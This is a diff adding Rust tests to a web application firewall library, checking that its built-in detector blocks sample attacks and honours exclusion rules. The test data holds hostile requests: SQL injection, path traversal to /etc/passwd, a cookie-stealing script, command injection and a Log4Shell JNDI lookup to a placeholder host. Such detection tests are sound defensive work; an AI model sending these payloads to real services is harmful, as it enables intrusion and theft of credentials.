@@ -405,3 +405,71 @@ proptest! {
         prop_assert_eq!(look(), look());
     }
 }
+
+mod builtin {
+    use portcullis_waf::builtin::{Detector, Settings};
+
+    use super::*;
+
+    fn with(text: &str) -> Ruleset {
+        let builder = Ruleset::builder().detector(Detector::new(Settings::default()));
+        builder.text("bodies", BODIES).text("rules", text).build().unwrap_or_else(|error| panic!("{error}"))
+    }
+
+    fn is_refused(ruleset: &Ruleset, request: &Request<'_>) -> bool {
+        request.run(ruleset).interruption().is_some()
+    }
+
+    #[test]
+    fn the_builtin_ruleset_sees_what_rules_see() {
+        let ruleset = with("");
+        for attack in [
+            get("/?id=1%27+or+%271%27%3D%271"),
+            get("/files/..%2f..%2f..%2fetc/passwd"),
+            post(JSON, r#"{"comment":"<script>alert(document.cookie)</script>"}"#),
+            post(JSON, r#"{"query":"{ user(name: \"x' or 1=1--\") { id } }"}"#),
+            post(FORM, "cmd=;cat+/etc/passwd"),
+            post(XML, "<a>${jndi:ldap://x.example/a}</a>"),
+            post(&[("Cookie", "a=1' union select password from users--")], ""),
+        ] {
+            assert!(is_refused(&ruleset, &attack), "{} {}", attack.target, attack.body);
+        }
+        for ordinary in [
+            get("/api/v1/search?q=blue+widget+with+handle&limit=20&lang=en"),
+            post(JSON, r#"{"text":"Please select a time; bring O'Neil's card","n":1}"#),
+        ] {
+            assert!(!is_refused(&ruleset, &ordinary), "{} {}", ordinary.target, ordinary.body);
+        }
+        let transaction = get("/?id=1%27+or+%271%27%3D%271").run(&ruleset);
+        let found = &transaction.matches()[0];
+        assert_eq!(found.values[0].target, "ARGS:id");
+        assert!(found.tags.contains(&"attack-sql".to_owned()), "{:?}", found.tags);
+        assert!(transaction.detector_score() >= 5);
+    }
+
+    #[test]
+    fn exclusions_hold_for_it_too() {
+        let attack = get("/cms/?text=1%27+or+%271%27%3D%271");
+        let other = get("/cms/?other=1%27+or+%271%27%3D%271");
+        for (rule, first, second) in [
+            ("", true, true),
+            ("SecRuleRemoveById 100000-100999", false, false),
+            ("SecRuleRemoveByTag \"^attack-(sql|xpath|ldap)$\"", false, false),
+            ("SecRuleUpdateTargetById 100000-100999 \"!ARGS:text\"", false, true),
+            (
+                "SecRule REQUEST_FILENAME \"@beginsWith /cms/\" \"id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetById=100000-100999;ARGS:text\"",
+                false,
+                true,
+            ),
+            (
+                "SecRule REQUEST_FILENAME \"@beginsWith /raw/\" \"id:1,phase:1,pass,nolog,ctl:ruleRemoveById=100000-100999\"",
+                true,
+                true,
+            ),
+        ] {
+            let ruleset = with(rule);
+            assert_eq!(is_refused(&ruleset, &attack), first, "{rule}");
+            assert_eq!(is_refused(&ruleset, &other), second, "{rule}");
+        }
+    }
+}
